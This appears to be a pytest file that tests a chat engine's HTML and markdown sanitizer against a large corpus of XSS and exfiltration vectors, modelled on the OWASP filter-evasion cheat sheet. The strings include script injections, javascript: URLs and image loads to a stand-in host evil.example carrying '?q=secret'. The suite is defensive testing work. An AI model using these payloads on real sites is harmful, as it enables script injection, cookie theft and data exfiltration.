"""Issue 19.1: a corpus of known XSS and exfiltration vectors through ``sanitize_html``, in
every chunking, judged by reference parsers rather than by our own reading.

The judge (``violations``) parses the sanitized reply twice: as HTML with html5lib (what a
browser builds from it), and as markdown with markdown-it-py, HTML passed through and every
link allowed (what a client that renders markdown and trusts its renderer builds), then as
HTML again. In the resulting elements nothing may run a script or, with ``remote_images``
off, load from another server. The judge is written from the WHATWG rules, independently of
the sanitizer's policy module, and each vector of ``VECTORS`` is shown to break it before
sanitizing (a corpus of harmless strings would prove nothing).

Vectors in the style of the OWASP XSS filter-evasion cheat sheet, written for this suite:
classic tags and attributes, entity/whitespace/control-character obfuscation, CSS, SVG and
MathML, comments, CDATA, broken and nested tags, raw-text elements, and markdown links,
images, reference definitions and autolinks.
"""

from __future__ import annotations

import functools
import re
from typing import Any

import html5lib
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from companion_engine.builtin.sanitizers import SanitizeHTML, sanitize_scanner
from tests.test_sanitizers import every_split, run, split_at

E = "https://evil.example"
LONG = "a" * 1100

#: Each one breaks the judge as it is (``test_every_vector_is_live_without_the_sanitizer``).
VECTORS = [
    # --- script elements and event handlers
    "<script>alert(1)</script>",
    f"<SCRIPT SRC={E}/xss.js></SCRIPT>",
    f"<SCRIPT/XSS SRC=\"{E}/xss.js\"></SCRIPT>",
    f"<script/src={E}/a.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\x0c>alert(1)</script>",
    "<p>x</p><script>alert(1)",
    f'<SCRIPT a=">" SRC="{E}/xss.js"></SCRIPT>',
    f'<SCRIPT =">" SRC="{E}/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    "&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<img src=x oNeRrOr=alert(1)>",
    '<img src="x"onerror=alert(1)>',
    '<img/src="x"/onerror=alert(1)>',
    "<img src=x onerror\x0c=\x0calert(1)>",
    "<img src=x onerror=alert(1)//\nmore text>",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<div/onmouseover='alert(1)'>x</div>",
    "<x onclick=alert(1)>click</x>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="#" onclick="alert(1)">x</a>',
    '<div id="x"><img src=x onerror=alert(1)</div>',
    "<<img src=x onerror=alert(1)>>",
    "<img src=x onerror=alert(1) " + " " * 1200 + ">",
    # --- script URLs, however written
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<A HREF=\"javascript:document.location='https://evil.example/'\">XSS</A>",
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="javascript:alert(1)" href="/ok">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<a href="javascript:alert(1)"' + LONG + ">link</a>",
    # --- elements that load or run something themselves
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    f"<link rel=prefetch href={E}/p>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    f'<meta http-equiv="refresh" content="0; url={E}/">',
    f'<META HTTP-EQUIV="Link" Content="<{E}/xss.css>; REL=stylesheet">',
    f'<BASE HREF="{E}/"><img src="a.png">',
    f'<OBJECT TYPE="text/x-scriptlet" DATA="{E}/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
    f'<applet code="x" codebase="{E}/"></applet>',
    f"<portal src={E}/></portal>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    f'<a ping="{E}/p" href="/x">x</a>',
    # --- CSS
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    f"<STYLE>@import'{E}/xss.css';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    '<XSS STYLE="behavior: url(xss.htc);">',
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
    "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0027\\0029'"
    "\\0029\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    f'<div style="background:url({E}/bg)">s</div>',
    f'<div style="background:u\\rl({E}/bg)">s</div>',
    f'<div style="background:&#117;rl({E}/bg)">s</div>',
    f"<div style=\"background-image: image-set('{E}/a.png' 1x)\">s</div>",
    f'<div style="list-style:url(/*x*/{E}/l)">s</div>',
    f'<span style="cursor:url({E}/c.cur),auto">s</span>',
    '<p style="background:url(//evil.example/p)">p</p>',
    f'<svg><rect fill="url({E}/s.svg#p)"/></svg>',
    # --- remote resources (exfiltration with remote_images off)
    f"<img/src={E}/a>",
    f"<img src={E}/?q=secret>",
    '<img src="//evil.example/x">',
    '<img src="\\\\evil.example/x">',
    '<img src="/\\evil.example/x">',
    '<img src="ht&#116;ps://evil.example/x">',
    '<img src="ht&Tab;tps://evil.example/x">',
    f'<img src=" {E}/x">',
    "<IMG SRC=HTTPS://EVIL.EXAMPLE/X>",
    f'<img src="{E}/x"\nalt="a">',
    f'<img srcset="{E}/a.png 2x">',
    f'<picture><source srcset="{E}/a.webp"><img src="/a.png"></picture>',
    f"<video poster={E}/p.jpg></video>",
    f'<video src="{E}/v.mp4"></video>',
    f"<audio src={E}/a.mp3></audio>",
    f"<input type=image src={E}/i.png>",
    f'<body background="{E}/b.png">',
    f"<table background={E}/t.png><tr><td>x</td></tr></table>",
    f'<svg><image href="{E}/s.png"/></svg>',
    f'<svg><use href="{E}/s.svg#a"/></svg>',
    f'<svg><image xlink:href="{E}/s.png"/></svg>',
    f"<img src={E}/x src=/ok>",
    f'<img src="x{LONG}" onerror=alert(1)>',
    # --- SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate xlink:href=#xss attributeName=href values=javascript:alert(1) />"
    "<a id=xss><text x=20 y=20>XSS</text></a></svg>",
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICKME</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)' /></svg>#x\" /></svg>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><animatetransform onbegin=alert(1)>",
    # --- comments, CDATA, raw text, broken and nested tags
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    "<!DOCTYPE html><img src=x onerror=alert(1)>",
    "<<script></script>script>alert(1)<</script>/script>",
    '<textarea><a title="</textarea><img src=x onerror=alert(1)>">',
    '<title><a title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<style><img src="</style><img src=x onerror=alert(1)//">',
    "<img src=x onerror=alert(1)><!--",
    "<script>alert(1)</script >",
    # --- markdown links and images
    "[click](javascript:alert(1))",
    "[c](java&#115;cript:alert(1))",
    "[c](JAVASCRIPT:alert(1))",
    "[c](javascript&colon;alert(1))",
    "[c](javascript\\:alert(1))",
    "[c](&#106;avascript:alert(1))",
    "[c](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[c](javascript:alert&#40;1&#41;)",
    "[c](<javascript:alert(1)>)",
    "[c](<javascript:alert(1)// x>)",
    '[c]( javascript:alert(1) "t")',
    "[c](javascript:alert(1) 'title')",
    "[c](\njavascript:alert(1))",
    "[c](javascript:alert(1)<b>)",
    "[c](vbscript:msgbox(1))",
    "[c](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a<b>x</b>](javascript:alert(1))",
    "[a `]` b](javascript:alert(1))",
    "> [x](javascript:alert(1))",
    "* [x](javascript:alert(1))",
    "| a |\n|---|\n| [x](javascript:alert(1)) |",
    "[![a](/i.png)](javascript:alert(1))",
    "![a](javascript:alert(1))",
    f"![a]({E}/?q=secret)",
    f"![a](<{E}/a b>)",
    "![a](//evil.example/x)",
    f'![a]({E}/x "title")',
    "![a](ht&#116;ps://evil.example/x)",
    "![a](https:\\/\\/evil.example/x)",
    f"\\\\![a]({E}/x)",
    f"![a\nb]({E}/x)",
    f"![a](\n{E}/x\n)",
    f"![a [b [c]] d]({E}/x)",
    f"![x `]` y]({E}/x)",
    f"![x <b>bold</b>]({E}/x)",
    f"![a [l](https://ok.example/) b]({E}/x)",
    f'![a [l](u "]") b]({E}/x)',
    f"[![a]({E}/x)](https://ok.example)",
    f"!<script></script>[a]({E}/x)",
    f"![a]({E}/x) and ![b]({E}/y)",
    f"![a]({E}/" + "p" * 3000 + ")",
    f"![a]({E}/{'(x)' * 5})",
    f"![a]({E}/a.png<b>)",
    f'![a]({E}/a.png<b> "t")',
    f"![a]({E}/a.png\\\"q)",
    # --- reference definitions
    "[x]: javascript:alert(1)\n[a][x]",
    "[a][x]\n\n[x]: java&#115;cript:alert(1)",
    "[x]:\njavascript:alert(1)\n\n[x]",
    "[x]: <javascript:alert(1)>\n\n[x]",
    f"[r]: {E}/r\n![a][r]",
    f"![a][r]\n\n[r]: {E}/r",
    f'![r]\n\n[r]: <{E}/r> "t"',
    f"- ![a][r]\n- [r]: {E}/r",
    f"> ![a][r]\n>\n> [r]:\n> {E}/r",
    f"![a][R]\n\n[r]:\n  {E}/r",
    f"![a][r]\n\n   [r]: {E}/r 'title'",
    f"![a][long label]\n\n[long\nlabel]: {E}/r",
    # not a definition after all (text after its URL, a blank label): read again as inline
    f"[r]: {E}/r[click](javascript:alert(1))<a>x y</a>",
    "[r]: /ok[c](javascript:alert(1)) junk",
    f"[ ]: /ok![x]({E}/a.png)",
    f"[r]: /ok \"t\" ![x]({E}/a.png)",
    # --- autolinks
    "<javascript:alert(1)>",
    "<JavaScript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html;base64,PHNjcmlwdD4=>",
    "<javascript:alert(1)//https://ok.example>",
    "<http://x/onfocus=alert(1)/autofocus/tabindex=1>",
]

#: Not live as written (a browser or renderer ignores them), but one removal away from it:
#: they must stay harmless after sanitizing too.
TRICKS = [
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    f"<iframe src={E}/scriptlet.html <",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "[c](jav&#x09;ascript:alert(1))",
    '<a href="/ok" href="javascript:alert(1)">x</a>',
    f'<img src="/ok" src="{E}/x">',
    '<a =href="javascript:alert(1)">x</a>',
    "<<script></script>img src=x onerror=alert(1)>",
    "<<!---->img src=x onerror=alert(1)>",
    "<scr</script>ipt>alert(1)</script>",
    "<img src=x " + LONG + " on</b>error=alert(1)>",
    "![<](https://evil.example/a)img src=x onerror=alert(1)>",
    "[x]![(](https://evil.example/a)javascript:alert(1))",
    "[x](javascript:alert(1) javascript:alert(2))",
    "[x]<script></script>(javascript:alert(1))",
    f"!<b></b>[a]({E}/x)",
    f"!\\[a]({E}/x)",
    f"![unfinished]({E}/x",
    '<a title="](javascript:x"><b>hi</b> "onmouseover=alert(1)>',
    '<a title=\'![x](https://e.example/a "t")\'>x</a>',
    "[a](java\nscript:alert(1))",
    "<svg><![CDATA[</svg><!--]]><img src=x onerror=alert(1)>-->",
    "<svg><![CDATA[ > <a title=\"]]><img src=x onerror=alert(1)>\">",
    "[x](a](javascript:y))",
    "I </3 you > them <3 and <<< back",
    "<a href=\"javascript:alert(1)\">" + "<!--" + "-->",
]

PROSE = ["Hello there! ", "It's *fine* & 3 < 4. ", "[joy] ", "Wow![calm] ", "\n\n", "> quote\n",
         "- item\n", "`code [x]` ", "<b>bold</b> ", "![local](/static/smile.png) ",
         "[a link](https://example.com) ", "a \\[b\\] c ", "<https://example.com/a> ",
         "[ref]: /local/page\n", "x ](y) ", "!", "[", "]", "(", "<", ">", "\\", "`"]

SCRIPT_SCHEMES = {"javascript", "vbscript", "livescript", "mocha"}
RASTER = re.compile(r"image/(png|gif|jpe?g|webp|bmp|avif|x-icon)[;,]")
FORBIDDEN_ELEMENTS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet",
                      "base", "link", "meta", "style", "noscript", "template", "portal", "param",
                      "animate", "set", "animatetransform", "animatemotion", "discard"}
FETCHING = {"src", "srcset", "poster", "background", "lowsrc", "dynsrc", "data", "codebase",
            "href"}
#: Attributes whose value a browser follows, loads or runs as a URL (alt, title and the like
#: are only ever shown as text); SMIL ``values``/``to``/``from`` set other attributes' URLs.
URL_ATTRS = FETCHING | {"action", "formaction", "cite", "longdesc", "usemap", "icon", "manifest",
                        "archive", "classid", "profile", "values", "to", "from", "by", "content"}


def whatwg(url: str) -> str:
    """The URL string as the WHATWG URL parser reads it (not our sanitizer's reading)."""
    url = url.strip("".join(map(chr, range(0x21))))
    return re.sub(r"[\t\n\r]", "", url).replace("\\", "/").lower()


def runs_script(url: str) -> bool:
    u = whatwg(url)
    m = re.match(r"([a-z][a-z0-9+.-]*):", u)
    if m is None:
        return False
    return m.group(1) in SCRIPT_SCHEMES or (m.group(1) == "data" and not RASTER.match(u[5:]))


def remote(url: str) -> bool:
    u = whatwg(url)
    m = re.match(r"([a-z][a-z0-9+.-]*):", u)
    return u.startswith("//") or (m is not None and m.group(1) != "data")


def css_problems(css: str, remote_images: bool) -> list[str]:
    text = re.sub(r"\\([0-9a-fA-F]{1,6})\s?", lambda m: chr(int(m.group(1), 16) or 0xFFFD), css)
    text = re.sub(r"\\(.)", r"\1", text)
    text = re.sub(r"/\*.*?\*/", "", text, flags=re.S).lower()
    found = [w for w in ("expression(", "javascript:", "vbscript:", "behavior", "-moz-binding")
             if w in re.sub(r"\s", "", text)]
    if not remote_images:
        if "@import" in text:
            found.append("@import")
        for m in re.finditer(r"url\(\s*['\"]?([^'\")]*)|['\"]([^'\"]*)['\"]", text):
            target = m.group(1) if m.group(1) is not None else m.group(2)
            if remote(target):
                found.append(f"remote {target!r}")
    return found


def _local(name: str) -> str:
    return name.rsplit("}", 1)[-1].lower()


def html_problems(markup: str, remote_images: bool) -> list[str]:
    """What a browser would run or fetch from this markup (html5lib builds the tree)."""
    doc = html5lib.parse(markup, treebuilder="etree", namespaceHTMLElements=False)
    problems = []
    for el in doc.iter():
        if not isinstance(el.tag, str):
            continue  # a comment
        tag = _local(el.tag)
        if tag in FORBIDDEN_ELEMENTS:
            problems.append(f"<{tag}>")
        for key, value in el.attrib.items():
            name = _local(key)
            if name.startswith("on") or name in ("srcdoc", "ping"):
                problems.append(f"<{tag} {name}>")
            if name in URL_ATTRS and any(runs_script(v) for v in re.split(r"[;,]", value)):
                problems.append(f"<{tag} {name}={value!r}>")
            if name == "style" or "url(" in value.lower():
                problems += [f"<{tag} {name}>: {p}" for p in css_problems(value, remote_images)]
            if remote_images or name not in FETCHING or (name == "href" and tag in ("a", "area")):
                continue
            urls = ([c.split()[0] for c in value.split(",") if c.split()] if name == "srcset"
                    else [value])
            if any(remote(u) for u in urls):
                problems.append(f"<{tag} {name}={value!r}> loads from another server")
    return problems


@functools.cache
def _renderer() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": True}).enable("table")
    md.validateLink = lambda url: True  # a renderer that trusts every link
    return md


@functools.cache
def violations(text: str, remote_images: bool = False) -> tuple[str, ...]:
    """Everything that would run or (remote_images off) load, read as HTML and as markdown."""
    found = [f"html: {p}" for p in html_problems(text, remote_images)]
    found += [f"markdown: {p}" for p in html_problems(_renderer().render(text), remote_images)]
    return tuple(found)


def sanitize(parts: list[str], remote_images: bool = False) -> str:
    scanner = sanitize_scanner(remote_images)
    return "".join(scanner.feed(p) for p in parts) + scanner.finish()


@functools.cache
def whole(text: str, remote_images: bool = False) -> str:
    return sanitize([text], remote_images)


def _id(v: str) -> str:
    return repr(v[:40])


# --- the corpus is real -------------------------------------------------------------------


@pytest.mark.parametrize("vector", VECTORS, ids=_id)
def test_every_vector_is_live_without_the_sanitizer(vector: str) -> None:
    assert violations(vector), "this vector does nothing as written: it proves nothing"


def test_the_corpus_is_large_and_covers_every_family() -> None:
    assert len(VECTORS) >= 100
    for family in ("<svg", "<math", "<!--", "CDATA", "](", "]:", "<javascript:", "style=",
                   "srcset", "&#"):
        assert any(family.lower() in v.lower() for v in VECTORS), family


# --- nothing survives, in any chunking ------------------------------------------------------


@pytest.mark.parametrize("vector", VECTORS + TRICKS, ids=_id)
def test_no_vector_survives_whole_or_streamed(vector: str) -> None:
    out = whole(vector)
    assert not violations(out), (vector, out)
    assert not violations(whole(vector, True), True), vector  # remote_images: nothing runs
    for parts in ([list(vector), *every_split(vector)[2:]] if len(vector) < 400
                  else [list(vector)]):
        assert sanitize(parts) == out, parts


@pytest.mark.parametrize("vector", VECTORS + TRICKS, ids=_id)
@settings(max_examples=8, deadline=None)
@given(cuts=st.lists(st.integers(0, 4000), max_size=12))
def test_no_vector_survives_in_hypothesis_chunkings(vector: str, cuts: list[int]) -> None:
    assert sanitize(split_at(vector, cuts)) == whole(vector)
    assert sanitize(split_at(vector, cuts), True) == whole(vector, True)


@settings(max_examples=250, deadline=None)
@example(pieces=[f"![a][r]\n\n[r]: {E}/r", "[click](javascript:alert(1))",
                 '<a onmouseover="alert(document.cookie)">xxs link</a>'], cuts=[],
         remote_images=True)  # found by this test: the definition is no definition
@given(pieces=st.lists(st.sampled_from(VECTORS + TRICKS + PROSE), min_size=1, max_size=6),
       cuts=st.lists(st.integers(0, 6000), max_size=16), remote_images=st.booleans())
def test_vectors_mixed_with_prose_stay_harmless(pieces: list[str], cuts: list[int],
                                                remote_images: bool) -> None:
    text = "".join(pieces)
    out = sanitize(split_at(text, cuts), remote_images)
    assert out == sanitize([text], remote_images)
    assert not violations(out, remote_images), (text, out)


# --- the reproductions of issue 19.1, exactly -------------------------------------------------

REPRODUCTIONS = [
    (f"<img/src={E}/a>", ""),
    (f'<div style="background:url({E}/bg)">s</div>', "<div>s</div>"),
    ("[click](javascript:alert(1))", "[click]()"),
    ("[c](java&#115;cript:alert(1))", "[c]()"),
    (f"[r]: {E}/r\nSee ![it][r].", "See ![it][r]."),
    ("[x]: javascript:alert(1)\nSee [it][x].", "See [it][x]."),
    (f"See ![it][r].\n\n[r]: {E}/r", "See ![it][r].\n\n"),
    ("See [it][x].\n\n[x]: javascript:alert(1)", "See [it][x].\n\n"),
]


@pytest.mark.parametrize(("text", "expected"), REPRODUCTIONS)
def test_issue_reproductions(text: str, expected: str) -> None:
    """Whole, token by token (one character each), and split at every point."""
    for parts in every_split(text):
        assert run(SanitizeHTML(), parts) == expected, parts
    assert violations(text) and not violations(expected)


def test_behaviour_kept_for_ordinary_markup() -> None:
    text = ("Hi <b>there</b>, <a href=\"https://example.com\" title='t'>a link</a> & "
            "<img src=\"/static/smile.png\" alt=\"smile\"> [docs](https://example.com) "
            "![me](/me.png) <https://example.com/a> 3 < 4 <3 `x` *y*")
    assert run(SanitizeHTML(), list(text)) == text


async def test_reproductions_through_a_real_turn(make_client, make_config,
                                                 llm_server: Any) -> None:  # type: ignore[no-untyped-def]
    """The default profile's output chain over real HTTP: the reply streamed a character at
    a time, the SSE content events carry none of it."""
    from companion_engine.testing import Script
    from tests.test_security_output import stream

    reply = "\n\n".join(t for t, _ in REPRODUCTIONS[:4]) + "\n\n" + REPRODUCTIONS[4][0]
    llm_server.push(Script(tokens=list(reply)))
    llm = {"model": "openai/test-model", "api_base": llm_server.openai_base, "timeout_s": 5}
    client = await make_client(make_config(profile={"llm": llm}))
    _, events = await stream(client, {"message": "hi"})
    shown = "".join(d["content"] for e, d in events if e == "content")
    done = next(d for e, d in events if e == "done")
    assert shown == done["full_content"] == sanitize([reply])
    assert violations(reply) and not violations(shown), shown
    assert "evil.example" not in shown and "javascript" not in shown
